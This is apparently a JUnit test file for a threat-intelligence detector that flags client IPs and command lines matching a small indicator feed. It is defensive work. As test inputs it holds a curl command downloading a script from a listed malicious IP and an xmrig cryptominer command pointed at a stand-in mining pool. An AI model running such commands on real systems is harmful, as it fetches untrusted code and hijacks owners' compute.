package dev.vigil.detect.intel;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.catalogue.AlertCatalogue;
import dev.vigil.detect.Detection;
import dev.vigil.event.Event;
import dev.vigil.event.HttpRequest;
import dev.vigil.event.Origin;
import dev.vigil.event.ProcessStart;
import dev.vigil.ti.load.LoadOptions;
import dev.vigil.ti.load.PlainListLoader;
import dev.vigil.ti.match.ThreatIntel;
import java.io.StringReader;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class ThreatIntelDetectorTest {
    static final Origin O = new Origin("t", 1, 0);

    static ThreatIntelDetector detector() throws Exception {
        var r = new PlainListLoader().load(new StringReader("203.0.113.0/24\npool.evil-mining.example\n"
                + "http://198.51.100.7/x.sh\n"), "feed.txt", LoadOptions.at(Instant.parse("2026-11-28T00:00:00Z")));
        return new ThreatIntelDetector(ThreatIntel.builder().addAll(r).build(), AlertCatalogue.builtIn());
    }

    static List<Detection> run(ThreatIntelDetector d, Event e) {
        List<Detection> out = new ArrayList<>();
        d.inspect(e, out::add);
        return out;
    }

    static ProcessStart proc(String cmd) {
        return ProcessStart.builder(O).host("web1").commandLine(cmd).build();
    }

    @Test
    void listedClientNetworksAreRaised() throws Exception {
        ThreatIntelDetector d = detector();
        assertThat(run(d, HttpRequest.builder(O).clientIp("203.0.113.200").target("/").build()))
                .singleElement().satisfies(x -> {
                    assertThat(x.type().name()).isEqualTo("ThreatIntelClientIp");
                    assertThat(x.decoded()).contains("203.0.113.0/24").contains("feed");
                });
        assertThat(run(d, HttpRequest.builder(O).clientIp("198.51.100.9").target("/").build())).isEmpty();
        assertThat(run(d, HttpRequest.builder(O).target("/").build())).isEmpty();
    }

    @Test
    void downloadsAndOtherCommandLinesAreTold() throws Exception {
        ThreatIntelDetector d = detector();
        assertThat(run(d, proc("curl -s http://198.51.100.7/x.sh -o /tmp/x.sh"))).singleElement()
                .satisfies(x -> assertThat(x.type().name()).isEqualTo("DownloadFromMaliciousSource"));
        assertThat(run(d, proc("./xmrig -o stratum+tcp://pool.evil-mining.example:3333 -u x"))).singleElement()
                .satisfies(x -> assertThat(x.type().name()).isEqualTo("SuspiciousDomainInCommandLine"));
        assertThat(run(d, proc("curl -s https://example.org/install.sh"))).isEmpty();
        assertThat(run(d, proc("ls -la /var/www"))).isEmpty();
    }
}
